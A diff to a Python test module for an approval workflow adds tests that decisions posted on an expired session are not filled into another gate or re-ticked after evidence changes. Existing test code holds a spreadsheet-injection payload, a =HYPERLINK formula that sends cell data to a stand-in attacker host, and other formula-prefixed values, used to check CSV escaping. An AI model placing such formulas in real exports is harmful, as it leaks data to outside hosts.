@@ -5,7 +5,9 @@ succeeded on ``merge-trial`` and is refused now:
   removal needs: one human, two approvals;
 - a new feature named ``Age`` beside ``age`` (protected_attribute): a spec that lists ``Age`` carries the same
   column through the credit policy's "no protected attribute" check untagged;
-- a display name ``=HYPERLINK(...)`` lands in the audit CSV as a live spreadsheet formula.
+- a display name ``=HYPERLINK(...)`` lands in the audit CSV as a live spreadsheet formula;
+- a decision kept through an expired session is filled in on another gate than the one it was written for, and
+  ticked again after the evidence it was written on changed.
 """
 
 from __future__ import annotations
@@ -14,11 +16,17 @@ import csv
 import io
 from typing import Any
 
+from datetime import timedelta
+
 from sqlalchemy import update
 
 from api.exports import csv_cell
-from engine.db import Feature, User
-from testing.api import ApiEnv
+from engine.db import BrowserSession, DecisionRow, Feature, User, utcnow
+from testing.api import ApiEnv, at_gate, started_at_gate, wait_for
+from tests.api import test_web_ui
+from tests.api.test_web_ui import Browser, csrf_of, signed_in, stage_of
+
+people = test_web_ui.people  # the web UI tests' browsers (env: tests/api/conftest.py)
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
 
@@ -124,3 +132,44 @@ def test_a_csv_cell_is_text_when_a_spreadsheet_would_run_it() -> None:
     for hostile in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
         assert csv_cell(hostile) == "'" + hostile
     assert csv_cell(None) == "" and csv_cell(-3) == -3 and csv_cell("Vera Schäfer") == "Vera Schäfer"
+
+
+# ---- a decision kept through an expired session -----------------------------------------------------
+
+
+async def _kept_then_signed_in(env: ApiEnv, people: dict[str, Browser], **fields: str) -> tuple[str, str]:
+    """Vera's decision posted on an expired session, then vera signs in again: (progression id, page shown)."""
+    pid, _ = await started_at_gate(env, "dana")
+    vera = await signed_in(people, "vera")
+    url = f"/ui/progressions/{pid}"
+    page = await vera.get(url)
+    async with env.sessionmaker() as session:
+        await session.execute(update(BrowserSession).where(BrowserSession.user_id == env.user_ids["vera"])
+                              .values(expires_at=utcnow() - timedelta(seconds=1)))
+        await session.commit()
+    posted = await vera.http.post(f"{url}/decisions", data={"csrf_token": csrf_of(page.text), "decision": "approve",
+                                                            **fields})
+    assert posted.status_code == 303 and posted.headers["location"].startswith("/ui/login?next=")
+    login = await vera.get(posted.headers["location"])
+    again = await vera.http.post("/ui/login", data={"token": env.tokens["vera"], "csrf_token": csrf_of(login.text),
+                                                    "next": "/ui/models"})
+    assert again.status_code == 303 and again.headers["location"] == f"{url}#decide"
+    return pid, (await vera.get(url)).text
+
+
+async def test_a_kept_decision_is_not_filled_into_another_gate(env: ApiEnv, people: dict[str, Browser]) -> None:
+    pid, shown = await _kept_then_signed_in(env, people, stage="risk_review", comment="risk accepted, ship it")
+    assert 'id="pending-decision"' in shown and "risk review" in shown and "not the one open now" in shown
+    assert 'value="approve" required checked' not in shown and "risk accepted, ship it" not in shown
+    state = await wait_for(env, pid, at_gate("validation"))
+    assert not stage_of(state, "validation")["decisions"]
+    assert await env.count(DecisionRow, DecisionRow.progression_id == pid) == 0
+
+
+async def test_a_kept_decision_on_evidence_that_changed_is_not_ticked_again(env: ApiEnv,
+                                                                          people: dict[str, Browser]) -> None:
+    _, shown = await _kept_then_signed_in(env, people, stage="validation", comment="validated on the old numbers",
+                                          basis="sha256:" + "0" * 64)
+    assert 'id="pending-decision"' in shown and "changed since you wrote it" in shown
+    assert "validated on the old numbers" in shown  # the words are kept...
+    assert 'value="approve" required checked' not in shown  # ... the choice is made again
